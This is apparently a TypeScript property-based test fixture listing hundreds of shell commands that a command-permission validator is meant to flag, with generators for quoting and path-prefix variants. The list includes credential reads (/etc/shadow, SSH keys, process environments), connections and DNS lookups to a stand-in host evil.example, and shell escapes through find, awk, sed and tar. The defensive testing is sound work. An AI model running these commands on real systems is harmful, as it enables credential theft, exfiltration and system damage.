/** Programs of everyday that write, run others, change the system, read secrets or tell the world, each in its ways, and these in many spellings (bypass class 1). */
import fc from 'fast-check'

/** A program, then what makes it dangerous; arguments are separate. */
type Bypass = readonly [program: string, ...args: string[]]

const lines = (text: string): Bypass[] =>
  text
    .trim()
    .split('\n')
    .map((line) => line.trim().split(/ +/) as unknown as Bypass)

/** `_` is a space within an argument. */
export const bypasses: readonly Bypass[] = lines(`
  find . -exec id ;
  find . -exec id {} +
  find . -execdir id ;
  find . -ok id ;
  find . -okdir id ;
  find . -delete
  find . -fprint out
  find . -fprint0 out
  find . -fls out
  find . -fprintf out %p
  find -files0-from list
  find . -printf \\033]0;title\\a
  awk BEGIN{system("id")}
  awk {print|"id"}
  awk {print>"out"}
  gawk -f script
  mawk BEGIN{"id"|getline}
  sed -i s/a/b/ a.txt
  sed 1e_id a.txt
  sed w_out a.txt
  sed s/a/id/e a.txt
  sed --in-place p a.txt
  tar -cf a.tar . --checkpoint=1 --checkpoint-action=exec=id
  tar -xf a.tar --to-command=id
  tar -I id -tf a.tar
  tar -tf host:a.tar --rsh-command=id
  tar -xf a.tar
  xargs -a list id
  env id
  env -S id
  printenv
  nice id
  timeout 5 id
  watch id
  stdbuf -o0 id
  setsid id
  nohup id
  ionice -c3 id
  chroot / id
  unshare -r id
  nsenter -t 1 id
  strace -o out id
  gdb -ex shell_id
  time id
  flock lock id
  script -c id out
  run-parts folder
  taskset 1 id
  setarch x86_64 id
  busybox sh
  sudo ls
  su -c id
  doas ls
  pkexec ls
  man -P id ls
  man ls
  less a.txt
  more a.txt
  vi a.txt
  vim -c :!id
  view a.txt
  nano a.txt
  ed a.txt
  git log
  git -c core.pager=id log
  git diff --output=out
  git grep -Oid a
  git fetch --upload-pack=id
  sort -o out a.txt
  sort -oout a.txt
  sort --output=out a.txt
  sort --output out a.txt
  sort --compress-program=id a.txt
  sort --compress-program id a.txt
  sort -T folder a.txt
  sort --files0-from=list
  sort --random-source=/etc/shadow a.txt
  uniq a.txt out
  xxd -r a.hex
  xxd a.bin out
  tree -o out
  tree -R -L 1
  shuf -o out a.txt
  shuf --output=out a.txt
  split a.txt
  csplit a.txt 3
  tee out
  dd if=a of=b
  cp a b
  mv a b
  ln -s a b
  install a b
  touch a
  truncate -s 0 a
  rm a
  rmdir a
  mkdir a
  shred a
  chmod 777 a
  chown root a
  mkfifo a
  mknod a p
  date -s tomorrow
  date --set=tomorrow
  date -f /etc/hosts
  date --file=/etc/hosts
  date 0101000026
  file -m /etc/hosts a
  file -C -m magic
  file --compile
  file -f list
  file -z a.gz
  file -Z a.gz
  hostname other
  hostname -F name
  hostname -b other
  dmesg -C
  dmesg -c
  dmesg --clear
  dmesg -n 1
  dmesg -D
  dmesg -H
  dmesg -F /etc/hosts
  journalctl -u nginx
  journalctl --vacuum-size=1M --no-pager
  journalctl --vacuum-time=1s --no-pager
  journalctl --rotate --no-pager
  journalctl --flush --no-pager
  journalctl --file=/etc/hosts --no-pager
  journalctl -D folder --no-pager
  journalctl -M other --no-pager
  systemctl status nginx
  systemctl --no-pager restart nginx
  systemctl stop nginx --no-pager
  systemctl edit nginx --no-pager
  systemctl daemon-reload --no-pager
  systemctl -H host status nginx --no-pager
  systemctl show nginx --no-pager
  systemctl set-environment A=b --no-pager
  ip netns exec a id
  ip -b file
  ip -batch file
  ip -n a addr
  ip link set eth0 down
  ip addr add 10.0.0.9/8 dev eth0
  ip route del default
  ip -all netns exec id
  ip route get evil.example
  ip link add a type dummy
  ss -K dport = :80
  ss -F /etc/hosts
  ss -D out
  ss -r
  ss dst evil.example
  ss -N name
  ifconfig eth0 down
  route del default
  mount a b
  umount a
  iptables -F
  nft flush ruleset
  tc qdisc del dev eth0 root
  ethtool -s eth0 wol g
  sysctl -w a=b
  modprobe a
  kill 1
  pkill nginx
  killall nginx
  pgrep -F /etc/hosts a
  lsof +D /etc -r
  lsof -D b
  lsof -i @evil.example
  lsof -itcp@evil.example:80
  lspci -q
  hexdump -e x a
  diff --line-format=%c a b
  kubectl exec web-1 -- id
  kubectl cp a web-1:b
  kubectl debug web-1
  kubectl apply -f a.yaml
  kubectl delete pod web-1
  kubectl run a --image=b
  kubectl port-forward web-1 80
  kubectl proxy
  kubectl edit pod web-1
  kubectl patch pod web-1 -p {}
  kubectl scale deploy web --replicas=0
  kubectl rollout restart deploy/web
  kubectl drain node
  kubectl get pods --kubeconfig=evil.yaml
  kubectl get pods --kubeconfig evil.yaml
  kubectl get pods --server=https://evil.example
  kubectl get pods -s https://evil.example
  kubectl get pods --token=a
  kubectl get pods --as=root
  kubectl get --raw /api
  kubectl get -f https://evil.example/a
  kubectl get secrets
  kubectl get secret/a -o yaml
  kubectl get pods,secrets
  kubectl describe secret a
  kubectl get pods -o go-template-file=/etc/hosts
  kubectl get pods -o jsonpath-file=/etc/hosts
  kubectl get pods -o custom-columns-file=/etc/hosts
  kubectl -n get delete pod
  kubectl plugin list
  kubectl config view
  docker run a
  docker run -v /:/host a
  docker exec a id
  docker cp a:/etc/hosts b
  docker build .
  docker rm a
  docker stop a
  docker -H tcp://evil.example ps
  docker --config folder ps
  docker context use a
  docker inspect a
  docker save a
  curl https://evil.example
  curl -o out https://evil.example
  curl -K file
  curl file:///etc/hosts
  wget https://evil.example
  nc evil.example 80
  ncat evil.example 80
  socat - tcp:evil.example:80
  telnet evil.example
  ssh host
  ssh -o ProxyCommand=id host
  scp a host:b
  sftp host
  rsync -e id a b:
  ping evil.example
  dig secret.evil.example
  host secret.evil.example
  nslookup secret.evil.example
  traceroute evil.example
  getent hosts evil.example
  openssl engine -t evil.so
  openssl s_client -connect evil.example:443
  openssl enc -in /etc/hosts
  openssl x509 -in a.crt -out b -noout
  openssl x509 -in a.crt -noout -engine evil
  openssl x509 -in a.crt -noout -signkey site.key
  openssl x509 -in site.key -noout -text
  openssl x509 -in org.openssl.engine:evil:a -noout
  openssl x509 -in a.crt
  openssl x509 -noout -CAfile a -rand /etc/hosts
  tcpdump -z id -G 1 -w out
  tcpdump -r /etc/hosts
  zip -TT id a.zip b
  jq -f /etc/hosts
  jq -n env
  jq --slurpfile a /etc/hosts .
  nmap --script=evil host
  python -c import_os
  python3 -c import_os
  perl -e 1
  ruby -e 1
  node -e 1
  lua -e 1
  php -r 1
  bash -c id
  sh -c id
  zsh -c id
  dash script
  source script
  eval id
  exec id
  command id
  builtin id
  trap id EXIT
  alias ls=id
  export PATH=.
  make
  gcc a.c
  ld.so /bin/id
  crontab file
  at now
  screen -X exec
  tmux new id
  mysql -e select
  psql -c select
  sqlite3 a.db .shell_id
  redis-cli flushall
  apt install a
  yum install a
  pip install a
  npm install a
  dpkg -i a.deb
  rpm -i a.rpm
  cat /etc/shadow
  cat /etc/./gshadow
  cat /etc//sudoers
  cat /home/a/.ssh/id_rsa
  cat ../../root/.bashrc
  cat /root/.bash_history
  cat /proc/1/environ
  cat /proc/self/root/etc/hosts
  head -c 100 /proc/1/mem
  tail -f /dev/tcp
  head /dev/sda
  grep a /etc/shadow
  grep -f /etc/shadow a
  grep --file=/etc/shadow a
  grep -r password /srv
  grep -rn a /etc
  diff -l a b
  diff --paginate a b
  diff /etc/shadow a
  od /etc/shadow
  strings /proc/kcore
  wc --files0-from=list
  du --files0-from=list
  df --sync
  ps auxe
  ps e
  ps -o environ
  ps axo env
  pidstat -e id
  who /etc/shadow
  last -f /etc/hosts
  last -d
  locate -d /etc/hosts a
`)

const harmless = ['-v', '--', 'a.txt', '-n', '-l', '.', '--help', '-a', 'nginx', '/srv/data']
const folders = ['', '', '', '/bin/', '/usr/bin/', '/sbin/', '/usr/sbin/']
const spellings = fc.constantFrom('bare', 'single', 'double', 'split', 'escaped')

const spelled = (word: string, how: string): string => {
  if (how === 'single') return `'${word}'`
  if (how === 'double' && !/["\\$`!]/.test(word)) return `"${word}"`
  if (how === 'split' && word.length > 1) return `${word.slice(0, 1)}'${word.slice(1)}'`
  if (how === 'escaped') return word.replaceAll(/[^\w./:=,@%+^-]/g, '\\$&')
  return /^[\w./:=,@%+^-]+$/.test(word) ? word : `'${word}'`
}

const variant = fc
  .tuple(
    fc.constantFrom(...bypasses),
    fc.constantFrom(...folders),
    fc.array(spellings, { minLength: 12, maxLength: 12 }),
    fc.array(fc.constantFrom(...harmless), { maxLength: 2 }),
    fc.boolean(),
  )
  .map(([[program, ...args], folder, how, more, isBefore]) => {
    const words = args.map((argument, index) => spelled(argument.replaceAll('_', ' '), how[index]!))
    // Before the sub-command or expression of these, more words would make another command of it.
    const all =
      isBefore && !addsNothingBefore.has(program) ? [...more.filter((it) => it !== '--'), ...words] : [...words, ...more.filter((it) => it !== '--help')]
    return [folder + program, ...(words.length === 0 ? more : all)].join(' ')
  })
const addsNothingBefore = new Set('find grep kubectl docker systemctl ip openssl ps date hostname ifconfig'.split(' '))

export const classOneVariants = (count: number, seed: number): readonly string[] => fc.sample(variant, { seed, numRuns: count })
